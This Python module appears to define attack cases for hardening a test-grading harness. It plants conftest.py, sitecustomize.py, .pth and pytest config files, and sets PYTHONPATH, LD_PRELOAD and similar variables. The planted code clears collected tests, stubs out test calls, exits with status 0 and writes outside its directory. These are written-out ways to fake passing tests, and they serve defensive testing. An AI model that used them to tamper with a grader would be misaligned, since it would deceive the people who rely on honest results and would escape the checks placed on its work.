"""A planted `conftest.py`, `pytest.ini`, `setup.cfg`, `sitecustomize.py`, `.pth`, and `PYTHON*` variables."""

from building import Attack

CODE = """
import os
try:
    open("OUTSIDE/planted", "w").write("x")
except OSError:
    pass
def pytest_runtest_makereport(item, call):
    item.config.stash.clear()
def pytest_runtest_call(item):
    item.obj = item.runtest = lambda *_, **__: None
def pytest_collection_modifyitems(items):
    items.clear()
"""
PLANTED = {
    **dict.fromkeys(("conftest.py", "sitecustomize.py", "usercustomize.py", "tests/conftest.py"), CODE),
    **{"planted.pth": "import os; os._exit(0)", "python._pth": "import os", ".env": "PYTHONPATH=."},
    **{"pytest.ini": "[pytest]\naddopts = --collect-only -p sitecustomize", "setup.cfg": "[tool:pytest]\ntestpaths=."},
    **{"tox.ini": "[pytest]\n", "pyproject.toml": "[tool.pytest.ini_options]\nrequired_plugins=['nothing']"},
}
PLANT = """
import os, site, sys
os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/sitecustomize.py", PYTHONHOME="/tmp", PYTEST_ADDOPTS="-x",
                  LD_PRELOAD="/tmp/evil.so", PYTHONBREAKPOINT="os._exit", PYTEST_PLUGINS="sitecustomize")
for place in {"/tmp", os.getcwd(), ROOT, CLASS, OUT, *sys.path, *site.getsitepackages(), os.path.dirname(os.__file__)}:
    for name, text in PLANTED.items():
        try:
            open(os.path.join(place, name), "w").write(text)
        except OSError:
            pass
"""
ATTACKS = [
    Attack("beside the answer", files=PLANTED),
    Attack("planted when it runs", after=f"PLANTED = {PLANTED!r}\n{PLANT}"),
]
